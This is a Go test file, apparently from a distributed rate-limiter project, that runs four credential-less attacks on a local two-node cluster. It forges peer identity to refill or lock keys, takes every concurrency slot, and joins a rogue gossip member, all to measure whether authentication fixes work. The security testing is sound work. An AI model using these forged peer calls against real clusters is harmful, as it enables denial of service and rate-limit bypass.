//go:build attacks

package main

import (
	"context"
	"fmt"
	"os"
	"testing"
	"time"

	"github.com/hashicorp/memberlist"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	"github.com/sluice-rl/sluice/client"
	"github.com/sluice-rl/sluice/internal/identity"
	sluicev1 "github.com/sluice-rl/sluice/proto/sluice/v1"
	"github.com/sluice-rl/sluice/transport"
)

// TestPeerAttacks runs the peer-port attacks of issue 32 as a caller on the
// same network would, with no credentials, against a real two-node cluster
// started as the README starts one (SLUICE_ATTACK_BIN picks another binary,
// e.g. an older release's, whose cluster runs without authentication):
//
//	go test -tags attacks -run TestPeerAttacks -v ./cmd/sluice/
//
// It reports what each attack achieved; it asserts nothing, since it
// measures a base and a head alike.
func TestPeerAttacks(t *testing.T) {
	if b := os.Getenv("SLUICE_ATTACK_BIN"); b != "" {
		sluiceBin = b
	}
	a := startMember(t, "a")
	b := startMember(t, "b", a.gossip)
	waitMembers(t, 20*time.Second, 2, a, b)
	c, err := client.New(client.Config{Addrs: []string{a.grpc, b.grpc}, Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	ctx := context.Background()
	lim := client.Limit{Limit: 3, Period: time.Minute}
	allowed := func(key string) (bool, time.Duration) {
		res, err := c.Check(ctx, client.Item{Key: key, Limit: lim})
		if err != nil || res[0].Err != nil {
			t.Fatalf("check %s: %v %v", key, err, res)
		}
		return res[0].Allowed, res[0].RetryAfter
	}
	peers := map[string]sluicev1.PeerClient{}
	for _, p := range []*proc{a, b} {
		cc, err := grpc.NewClient(p.peer, append(transport.ProtocolDialOptions(), grpc.WithTransportCredentials(insecure.NewCredentials()))...)
		if err != nil {
			t.Fatal(err)
		}
		defer cc.Close()
		peers[p.name] = sluicev1.NewPeerClient(cc)
	}
	other := map[string]string{"a": "b", "b": "a"} // each peer is called in the other member's name
	call := func(what string, f func(ctx context.Context, name string, p sluicev1.PeerClient) error) string {
		var out string
		for name, p := range peers {
			cctx, cancel := context.WithTimeout(ctx, 3*time.Second)
			err := f(cctx, name, p)
			cancel()
			if err != nil {
				out += fmt.Sprintf(" %s: refused (%v);", name, err)
			} else {
				out += fmt.Sprintf(" %s: accepted;", name)
			}
		}
		return what + ":" + out
	}
	tb := &sluicev1.PeerLimit{Algorithm: sluicev1.Algorithm_ALGORITHM_TOKEN_BUCKET, Limit: 3, PeriodNs: int64(time.Minute)}

	// 1. Refill an exhausted key with a credit item.
	for range 3 {
		allowed("victim")
	}
	if ok, _ := allowed("victim"); ok {
		t.Fatal("victim not exhausted after 3 checks")
	}
	h := identity.Inline(1, time.Minute, "victim")
	t.Log(call("credit", func(ctx context.Context, name string, p sluicev1.PeerClient) error {
		_, err := p.Check(ctx, &sluicev1.PeerCheckRequest{From: other[name], Items: []*sluicev1.PeerItem{{Hash: h, Limit: tb, Cost: 3, Credit: true}}})
		return err
	}))
	ok, _ := allowed("victim")
	t.Logf("credit: exhausted key allowed afterwards: %v", ok)

	// 2. Lock a 3/min key for an hour: fetch its state, push it back an hour ahead.
	allowed("victim2")
	h2 := identity.Inline(1, time.Minute, "victim2")
	var states []*sluicev1.KeyState
	t.Log(call("fetch", func(ctx context.Context, name string, p sluicev1.PeerClient) error {
		r, err := p.Fetch(ctx, &sluicev1.FetchRequest{From: other[name], Hashes: []uint64{h2}})
		if err == nil {
			states = append(states, r.States...)
		}
		return err
	}))
	t.Logf("fetch: states read: %d", len(states))
	if len(states) == 0 { // forge one: the node's clock is the wall clock in ns
		states = []*sluicev1.KeyState{{Hash: h2, Algorithm: sluicev1.Algorithm_ALGORITHM_TOKEN_BUCKET, Tat: time.Now().UnixNano(), PeriodNs: int64(time.Minute)}}
	}
	for _, s := range states {
		s.Tat += int64(time.Hour)
	}
	t.Log(call("handoff", func(ctx context.Context, name string, p sluicev1.PeerClient) error {
		r, err := p.Handoff(ctx, &sluicev1.HandoffRequest{From: other[name], States: states})
		if err == nil && r.Refused > 0 {
			return fmt.Errorf("%d states refused", r.Refused)
		}
		return err
	}))
	ok, retry := allowed("victim2")
	t.Logf("handoff: 3/min key allowed afterwards: %v (retry after %s)", ok, retry)

	// 3. Take every slot of a concurrency key for a day.
	conc := &sluicev1.PeerLimit{Algorithm: sluicev1.Algorithm_ALGORITHM_CONCURRENCY, Limit: 2}
	hc := identity.Inline(5, 0, "conc")
	t.Log(call("acquire", func(ctx context.Context, name string, p sluicev1.PeerClient) error {
		r, err := p.Acquire(ctx, &sluicev1.PeerAcquireRequest{From: other[name], Item: &sluicev1.PeerItem{Hash: hc, Limit: conc, Cost: 2}, TtlNs: int64(24 * time.Hour)})
		if err == nil && (r.Result == nil || !r.Result.Allowed) {
			return fmt.Errorf("not allowed: %v", r.Result)
		}
		return err
	}))
	l, err := c.Acquire(ctx, "conc", "", client.Limit{Algorithm: client.Concurrency, Limit: 2}, 1, time.Minute)
	t.Logf("acquire: a legitimate lease afterwards: allowed %v (err %v)", l.Allowed, err)

	// 4. A rogue gossip member with no key joins the cluster.
	cfg := memberlist.DefaultLocalConfig()
	cfg.Name = "rogue"
	cfg.BindAddr, cfg.BindPort, cfg.AdvertisePort = "127.0.0.1", 0, 0
	cfg.LogOutput = testWriter{t}
	ml, err := memberlist.Create(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer ml.Shutdown()
	n, err := ml.Join([]string{a.gossip})
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) && len(ml.Members()) < 3 {
		time.Sleep(100 * time.Millisecond)
	}
	t.Logf("rogue gossip member: joined %d (err %v); it sees %d members; the cluster lists %d", n, err, len(ml.Members()), len(members(t, a)))
	_ = ml.Leave(time.Second)
}

type testWriter struct{ t *testing.T }

func (w testWriter) Write(p []byte) (int, error) { return len(p), nil }
